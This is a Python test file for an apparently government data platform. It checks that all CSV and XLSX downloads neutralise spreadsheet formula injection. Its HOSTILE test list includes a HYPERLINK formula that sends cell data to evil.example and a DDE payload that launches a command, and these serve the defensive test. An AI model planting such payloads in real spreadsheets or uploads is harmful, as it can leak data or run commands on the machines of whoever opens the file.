"""No spreadsheet formula reaches a user (issue 11, finding 3): every CSV and XLSX the platform hands out —
rejection reports of file loads (API and page), the catalog export and template, the collection template, the
data service's CSV and XLSX exports — goes through ``core.sheet_writer``, which makes text that a spreadsheet
would run (``=`` ``+`` ``-`` ``@`` tab CR first) start with a single quote. Hostile text is put wherever a
user can put text, every route is downloaded, and no cell may start with a formula character. A guard test
fails when a download route is added without being exercised here."""

from __future__ import annotations

import csv
import inspect
import io
import json
import re

from fastapi.routing import APIRoute
from openpyxl import load_workbook

from govdata.core.sheet_writer import FORMULA_START, is_plain_number
from tests.aggregation.conftest import data_client  # noqa: F401  (dataset tables dropped around the test)
from tests.aggregation.test_file_pages import upload_api, wait_for
from tests.aggregation.test_push import id_number
from tests.conftest import bearer, login
from tests.sharing.grants import make_grant
from tests.sharing.helpers import person, shared_resource

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]
#: Every route that answers a CSV or XLSX file, with the test below that downloads it.
DOWNLOADS = {
    "/api/v1/loads/{load_id}/report", "/aggregation/loads/{load_id}/report",
    "/api/v1/catalog/export.xlsx", "/api/v1/catalog/template.xlsx",
    "/api/v1/collection/template.xlsx", "/collection/template.xlsx",
    "/api/v1/share/{code}/export",
}
_DOWNLOAD_SOURCE = re.compile(r"FileResponse|StreamingResponse|XLSX|CSV_MEDIA|text/csv|spreadsheetml")


def _cells_of(content: bytes, kind: str) -> list[object]:
    if kind == "csv":
        assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, as Excel wants it
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    book = load_workbook(io.BytesIO(content))  # not read-only: the data type of each cell is kept
    cells: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                cells.append(cell.value)
    return cells


def assert_no_formula(content: bytes, kind: str, hostile: list[str] | tuple[str, ...] = ()) -> list[object]:
    """No text cell starts with a formula character (plain numbers such as ``-12.5`` aside), and each hostile
    text is there, neutralised (so the test is not passing on an empty file)."""
    cells = _cells_of(content, kind)
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_START) or is_plain_number(value), repr(value)
    texts = {v for v in cells if isinstance(v, str)}
    for text in hostile:
        assert "'" + text in texts, f"{text!r} missing (neutralised) from the {kind}"
    return cells


def _routes(routes):
    for route in routes:
        if hasattr(route, "original_router"):  # an included router
            yield from _routes(route.original_router.routes)
        else:
            yield route


def test_every_download_route_is_exercised_here(client):
    found = set()
    for route in _routes(client.app.routes):
        if isinstance(route, APIRoute) and "GET" in route.methods:
            source = inspect.getsource(route.endpoint)
            if _DOWNLOAD_SOURCE.search(source) or route.path.endswith((".csv", ".xlsx", "/report", "/export")):
                found.add(route.path)
    assert found == DOWNLOADS


def test_no_download_carries_a_formula(data_client):  # noqa: F811
    client = data_client
    shared = shared_resource(client, rows=0, summary=HOSTILE[0], keywords="@SUM(1)")
    code = shared.code

    # the data service's exports: hostile names pushed by the provider (control characters are refused on the
    # way in), a negative amount stays a number
    texts = [t for t in HOSTILE if not t.startswith(("\t", "\r"))]
    people = [{**person(n), "name": text, "amount": "-12.50" if n == 0 else "7.25"} for n, text in enumerate(texts)]
    pushed = client.post(f"/api/v1/datasets/{code}/records", auth=shared.provider["auth"],
                         content=json.dumps(people, ensure_ascii=False).encode(),
                         headers={"Content-Type": "application/json"})
    assert pushed.status_code == 200, pushed.text
    make_grant(shared, access_method="file")
    url, auth = f"/api/v1/share/{code}/export", shared.consumer["auth"]
    as_csv = client.get(url, auth=auth)
    assert as_csv.status_code == 200, as_csv.text
    cells = assert_no_formula(as_csv.content, "csv", texts)
    assert "-12.50" in cells  # a number is written as it is
    as_xlsx = client.get(url, params={"format": "xlsx"}, auth=auth)
    assert as_xlsx.status_code == 200, as_xlsx.text
    cells = assert_no_formula(as_xlsx.content, "xlsx", texts)
    assert any(v == -12.5 for v in cells if isinstance(v, int | float))  # a money value is a number in XLSX

    # the rejection report of a file load: hostile column name, hostile keys and values, all rejected
    header = ["公民身份号码", "姓名", "所属区县代码", HOSTILE[0]]
    rows = [[text, text, "530102", text] for text in HOSTILE] + [[id_number(50), "居民", "530102", "x"]]
    manager = bearer(client, "ps_manager")
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerows([header, *rows])  # a carriage return in a value stays in it
    load = upload_api(client, code, text.getvalue().encode(), "hostile.csv", manager)
    assert load.status_code == 201, load.text
    load_id = load.json()["id"]
    mapping = {"公民身份号码": "id_number", "姓名": "name", "所属区县代码": "county", HOSTILE[0]: None}
    mapped = client.put(f"/api/v1/loads/{load_id}/mapping", headers=manager, json={"mapping": mapping,
                                                                                   "mode": "partial"})
    assert mapped.status_code == 200, mapped.text
    ran = client.post(f"/api/v1/loads/{load_id}/run", headers=manager)
    assert ran.status_code in (200, 202), ran.text
    wait_for(load_id)
    assert client.get(f"/api/v1/loads/{load_id}", headers=manager).json()["result"]["rejected"] == len(HOSTILE)
    report = client.get(f"/api/v1/loads/{load_id}/report", headers=manager)
    assert report.status_code == 200, report.text
    assert_no_formula(report.content, "csv", HOSTILE)
    login(client, "ps_manager")
    page_report = client.get(f"/aggregation/loads/{load_id}/report")
    assert page_report.status_code == 200
    assert_no_formula(page_report.content, "csv", HOSTILE)
    client.cookies.clear()

    # the catalog export (summary and keywords are the department's text) and the fixed templates
    exported = client.get("/api/v1/catalog/export.xlsx", params={"status": "published"}, headers=manager)
    assert exported.status_code == 200, exported.text
    assert_no_formula(exported.content, "xlsx", [HOSTILE[0], "@SUM(1)"])
    for path in ("/api/v1/catalog/template.xlsx", "/api/v1/collection/template.xlsx"):
        template = client.get(path, headers=manager)
        assert template.status_code == 200, path
        assert_no_formula(template.content, "xlsx")
    login(client, "ps_manager")
    assert_no_formula(client.get("/collection/template.xlsx").content, "xlsx")
